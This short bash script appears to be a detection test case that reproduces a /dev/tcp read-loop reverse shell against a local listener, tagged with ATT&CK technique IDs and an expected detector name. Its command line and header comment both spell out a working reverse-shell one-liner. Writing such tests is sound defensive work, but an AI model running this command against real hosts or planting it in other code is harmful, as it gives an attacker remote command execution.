#!/bin/bash
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell; T1095 Non-Application Layer Protocol
# reproduces: bash's read-loop reverse shell from the reverse-shell cheat sheets (`exec 5<>/dev/tcp/HOST/PORT; while read line <&5; do eval "$line" >&5 2>&5; done`): the shell itself runs what the C2 sends, so no program starts with its stdio on the socket
# expect: reverse-shell-dev-tcp ^bash$
# exec-borne: no
set -u

timeout 10 bash -c 'exec 5<>/dev/tcp/127.0.0.1/'"${BW_ATTACK_LISTEN_PORT:?}"'; while read -r line <&5; do eval "$line" >&5 2>&5; done' || true
[ -s "${BW_ATTACK_MARK:?}" ]
